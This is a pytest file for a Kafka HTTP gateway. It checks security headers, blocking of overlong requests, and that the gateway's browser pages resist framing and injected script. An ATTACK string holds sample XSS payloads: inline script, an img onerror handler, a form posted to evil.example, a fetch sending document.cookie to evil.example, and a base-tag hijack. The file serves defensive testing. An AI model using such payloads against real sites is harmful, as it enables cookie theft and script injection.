"""What browsers are told to keep from doing with each kind of answer; and the pages work so."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route
from support.app_server import running_app
from support.brokers import embedded_kafka
from support.browser import Browser, running_browser
from support.demo import running_demo
from support.gateways import GatewayThread, build_config
from support.raw_http import RawConnection, build_request
from support.records import produce_records
from support.topic_gateway import run_gateway_sync
from support.waiting import WAIT_TIMEOUT_S

from gateway.kafka.embedded import EmbeddedKafka

HTML = {"Accept": "text/html"}
LINES = {"Accept": "application/x-ndjson"}
NOTHING = "default-src 'none'"

kafka = embedded_kafka({"orders": 1})


@pytest.fixture(scope="module")
def gateway(kafka: EmbeddedKafka) -> Iterator[GatewayThread]:
    listen = {"access-control": {"policy": "cross-origin"}}
    with run_gateway_sync(build_config(kafka.bootstrap, ["orders"], listen=listen)) as gateway:
        yield gateway


@pytest.fixture
async def tab() -> AsyncIterator[Browser]:
    async with running_browser() as tab:
        yield tab


@pytest.mark.parametrize(
    ("path", "headers", "status", "policy"),
    [
        ("/", HTML, 200, "script-src 'self'"),
        ("/", {}, 200, NOTHING),
        ("/asyncapi.json", {}, 200, NOTHING),
        ("/health/ready", {}, 200, NOTHING),
        ("/metrics", {}, 200, NOTHING),
        ("/nowhere", {}, 404, NOTHING),
        ("/events/orders?from=%3Cscript%3E", {}, 400, NOTHING),
        ("/discovery.js", {}, 200, None),
        ("/discovery.css", {}, 200, None),
        ("/gateway.js", {}, 200, None),
        ("/events/orders?until=latest", {}, 200, None),
        ("/events/orders?until=latest", LINES, 200, None),
        ("/events/orders?wait=0", LINES, 200, None),
    ],
)
async def test_no_answer_is_taken_for_something_else(
    gateway: GatewayThread, path: str, headers: dict[str, str], status: int, policy: str | None
):
    async with httpx.AsyncClient(trust_env=False, timeout=WAIT_TIMEOUT_S) as http:
        answer = await http.get(gateway.base_url + path, headers=headers)
    told = answer.headers
    assert answer.status_code == status
    assert told["x-content-type-options"] == "nosniff"
    assert all(len(told.get_list(name)) == 1 for name in told if name != "vary")
    if policy is None:
        assert "content-security-policy" not in told
    else:
        assert policy in told["content-security-policy"]
        assert "frame-ancestors 'none'" in told["content-security-policy"]
        assert "unsafe" not in told["content-security-policy"]
        assert told["x-frame-options"] == "DENY"
        assert told["referrer-policy"] == "no-referrer"
    if status == 200:
        assert "origin" in told["vary"].lower(), "for pages of other sites it is another answer"


async def test_a_refusal_below_the_application_is_not_guessed_at_either(gateway: GatewayThread):
    with RawConnection(gateway.port) as wire:
        wire.send_bytes(build_request("/" + 70_000 * "a"))
        answer = wire.read_last_response()
        assert answer.status == 414 and answer.headers["x-content-type-options"] == "nosniff"


ATTACK = """
    window.violated = [];
    document.addEventListener("securitypolicyviolation",
                              (event) => violated.push(event.effectiveDirective));
    const inline = document.createElement("script");
    inline.textContent = "window.pwned = 1";
    document.head.append(inline);
    const image = document.createElement("div");
    image.innerHTML = "<img src=x onerror='window.pwned = 2'><form action=https://evil.example>";
    document.body.append(image);
    image.querySelector("form").submit();
    fetch("https://evil.example/?" + document.cookie).catch(() => {});
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.prepend(base);
"""
KEPT = ["base-uri", "connect-src", "form-action", "script-src-attr", "script-src-elem"]


async def withstands(tab: Browser) -> None:
    """Whatever got into the page, nothing of it runs, and nothing goes out."""
    assert await tab.read_console() == []
    await tab.run_script(ATTACK)
    await tab.wait_for_script(f"return new Set(violated).size >= {len(KEPT)}", WAIT_TIMEOUT_S)
    assert sorted(set(await tab.run_script("return violated"))) == KEPT
    assert await tab.run_script("return [window.pwned, document.baseURI]") == [
        None, await tab.run_script("return location.href")
    ]  # fmt: skip
    assert await tab.read_console(), "what it was kept from doing is told there"


@pytest.mark.needs("chromium")
async def test_the_list_of_streams_works_without_a_word_on_the_console(
    gateway: GatewayThread, kafka: EmbeddedKafka, tab: Browser
):
    await produce_records(kafka.bootstrap, "orders", [b'{"order": 1}'])
    await tab.open_url(f"{gateway.base_url}/?token=secret")
    await tab.run_script("document.querySelector('[name=from]').value = 'earliest'")
    await tab.run_script("document.querySelector('.try').click()")
    await tab.wait_for_script("return document.querySelector('.record')", WAIT_TIMEOUT_S)
    await tab.run_script("document.querySelector('.copy').click()")
    await tab.wait_for_script(
        "return /Copied|Selected/.test(document.querySelector('.copy').textContent)"
    )
    assert await tab.run_script("return getComputedStyle(document.body).margin") == "0px"
    await withstands(tab)


@pytest.mark.needs("chromium")
async def test_the_demo_works_without_a_word_on_the_console(tab: Browser):
    async with running_demo() as running:
        await tab.open_url(f"{running.url}/")
        live = "document.querySelectorAll('.state[data-state=live]').length === 2"
        await tab.wait_for_script(
            f"return {live} && document.querySelector('#orders tr')", WAIT_TIMEOUT_S
        )
        await tab.wait_for_script(
            "return /[0-9]/.test(document.getElementById('cpu').textContent)", WAIT_TIMEOUT_S
        )
        await withstands(tab)


FRAMED = """
    const [url] = arguments;
    const frame = document.createElement("iframe");
    frame.onload = () => { window.loaded = true; };
    frame.src = url;
    document.body.append(frame);
"""


@pytest.mark.needs("chromium")
async def test_no_page_of_another_site_shows_ours_within_itself_or_sees_whence_it_is_asked(
    gateway: GatewayThread, tab: Browser
):
    seen: list[Any] = []

    def page(request: Any) -> HTMLResponse:
        seen.append(request.headers.get("referer"))
        return HTMLResponse("<!doctype html><body>")

    async with running_app(Starlette(routes=[Route("/", page)])) as other:
        await tab.open_url(f"{gateway.base_url}/?token=secret")
        await tab.run_script("location.href = arguments[0]", other)
        await tab.wait_for_script(
            f"return location.href.startsWith({other!r}) && document.body", WAIT_TIMEOUT_S
        )
        assert seen == [None]
        for path in ("/", "/nowhere", "/asyncapi.json"):
            await tab.open_url(other)
            await tab.run_script(FRAMED, gateway.base_url + path)
            await tab.wait_for_script("return window.loaded", WAIT_TIMEOUT_S)
            assert any("frame" in line for line in await tab.read_console()), path
